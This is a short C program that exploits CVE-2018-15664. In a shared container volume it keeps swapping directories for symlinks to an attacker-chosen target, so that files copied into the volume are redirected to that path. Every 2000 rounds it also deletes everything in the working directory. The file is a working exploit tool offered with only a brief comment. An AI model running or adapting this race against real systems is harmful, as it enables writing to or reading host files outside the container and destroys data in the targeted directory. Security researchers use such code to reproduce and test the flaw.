/* Who shares a volume that is being filled puts a link in the place of each directory as soon as it is there: what is
 * copied into it next would go where the link leads (CVE-2018-15664).
 *
 *   planter DIRECTORY TARGET COUNT
 *
 * Directories d0 … dCOUNT-1 of DIRECTORY become links to TARGET; whatever is there is cleared every now and then, so that
 * the next copy finds an empty volume. */

#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <ftw.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

static int discard(const char *path, const struct stat *found, int kind, struct FTW *where)
{
	(void)found, (void)kind;
	if (where->level)
		remove(path);
	return 0;
}

int main(int count, char **words)
{
	char name[32], aside[32];

	if (count != 4 || chdir(words[1]))
		return 1;
	printf("planting\n");
	fflush(stdout);
	for (unsigned long round = 0, planted = 0;; round++) {
		for (int i = 0; i < atoi(words[3]); i++) {
			snprintf(name, sizeof name, "d%d", i);
			snprintf(aside, sizeof aside, ".%d-%lu", i, round);
			if (!renameat2(AT_FDCWD, name, AT_FDCWD, aside, 1 /* not over anything */) && !symlink(words[2], name))
				planted++;
		}
		if (planted && round % 2000 == 0) {
			nftw(".", discard, 16, FTW_DEPTH | FTW_PHYS);
			planted = 0;
		}
	}
}
